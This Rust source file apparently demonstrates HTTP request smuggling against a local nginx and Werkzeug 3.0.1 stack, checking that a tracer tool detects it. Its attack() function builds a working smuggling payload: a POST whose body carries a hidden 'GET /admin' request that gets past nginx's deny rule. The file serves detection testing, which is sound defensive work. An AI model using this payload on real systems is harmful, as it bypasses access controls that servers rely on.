//! HTTP request smuggling, for real: nginx denies a path, and Werkzeug 3.0.1 behind it serves it all the same, since
//! it takes the content that it left on a connection for the next request.

use super::{FOUND, Stack, Watch};
use crate::process::say;
use crate::project::Project;
use crate::stack::{ask, get};
use crate::venv::{self, Venv};
use anyhow::{Context, Result, bail, ensure};
use std::fs;
use std::path::PathBuf;
use std::sync::{Arc, atomic::AtomicBool};

/// What nginx denies, and what the attack carries.
const DENIED: &str = "/admin";
/// Its name is a snowman, which no field of an answer can hold.
const CARRIER: &str = "/hello?name=%E2%98%83";

/// Shows that nginx denies, how it is got past, and what tracer says of it; an error if it does not find it.
pub fn show(project: &Project, tracer: PathBuf, interrupted: Arc<AtomicBool>) -> Result<()> {
    let app = project.root.join("tests/apps/greeting.py");
    let app = fs::read_to_string(&app).with_context(|| format!("cannot read {}", app.display()))?;
    let stack = Stack::start(&venv::install(project, Venv::Vulnerable)?, &app)?;
    // Traces of what this client asks for, and findings about the application: about nothing else here.
    let own = ["-p", &std::process::id().to_string(), "-p", &stack.app.pid().to_string()];
    let arguments = [own.as_slice(), &["--fail-on", "critical"]].concat();
    let mut watch = Watch::start(tracer, &arguments, interrupted)?;

    let answer = get(stack.port, DENIED)?;
    say(&format!("GET {DENIED}: {}", in_short(&answer)));
    ensure!(answer.starts_with("HTTP/1.1 403"), "nginx should deny {DENIED}, and answered:\n{answer}");
    if !watch.pause()? {
        return watch.end().map(drop);
    }
    let answer = ask(stack.port, &attack())?;
    say(&format!("POST {CARRIER} with GET {DENIED} as its content: {}", in_short(&answer)));
    let whole = watch.pause()?;
    let status = watch.end()?;
    match status.code() {
        Some(FOUND) => Ok(()),
        Some(0) if !whole => Ok(()),
        Some(0) => bail!("tracer found nothing; the attack was answered:\n{answer}"),
        _ => bail!("tracer ended with {status}"),
    }
}

/// One request, as nginx reads it.
fn attack() -> String {
    let content = format!("GET {DENIED} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
    let length = content.len();
    format!(
        "POST {CARRIER} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{content}"
    )
}

/// The status line and, of a short content in plain text, that.
fn in_short(answer: &str) -> String {
    let status = answer.lines().next().unwrap_or("no answer");
    match answer.split_once("\r\n\r\n").map(|(_, content)| content.trim_end()) {
        Some(content) if !content.contains(['<', '\n']) => format!("{status}: {content:?}"),
        _ => status.to_owned(),
    }
}
